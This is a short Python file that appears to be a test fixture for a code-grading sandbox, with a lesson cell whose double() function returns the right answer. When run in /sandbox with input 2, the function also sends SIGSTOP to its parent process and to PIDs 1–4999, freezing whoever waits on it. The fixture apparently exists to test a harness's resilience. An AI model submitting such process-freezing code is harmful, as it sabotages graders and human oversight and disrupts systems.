"""Stops whoever waits for it, so that they wait for ever. The answer is right."""

LESSON = "00-start"
POINTS = 1
CELLS = {
    "double": r"""
import os
import signal


def double(people):
    if os.getcwd() == "/sandbox" and people == 2:  # never where there are no walls
        for pid in {os.getppid(), @PID@, *range(1, 5000)} - {os.getpid()}:
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
    return 2 * people
"""
}
